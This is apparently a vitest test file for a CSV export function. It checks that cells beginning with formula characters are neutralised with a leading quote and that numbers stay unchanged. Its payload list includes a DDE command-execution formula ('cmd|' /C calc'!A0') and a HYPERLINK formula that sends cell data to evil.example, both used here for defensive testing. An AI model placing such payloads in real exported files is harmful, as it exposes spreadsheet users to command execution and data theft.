import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { printCsv } from "../../functions/imports/csv.ts";

const starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"];
const formulas = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"ok")', "SUM(A1:A9)"];
const payloads = starts.flatMap((start) => formulas.map((formula) => `${start}${formula}`));

describe("a file that people open in a spreadsheet", () => {
  it("holds no cell that starts a formula, in any column, its header too, and keeps numbers as they are", () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
    for (const payload of payloads) {
      const text = printCsv(
        [payload, "b", "c"],
        [
          [payload, -12.5, payload],
          ["a", 3, ` ${payload}`],
        ],
      );
      const rows: string[][] = parse(text, { bom: true });
      expect(rows).toHaveLength(3);
      expect(rows[1]![1]).toBe("-12.5");
      for (const cell of rows.flat().filter((one) => one !== "-12.5")) {
        expect(cell.trimStart(), payload).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
        if (cell.includes(payload)) expect(cell.startsWith("'")).toBe(true);
      }
    }
  });
});
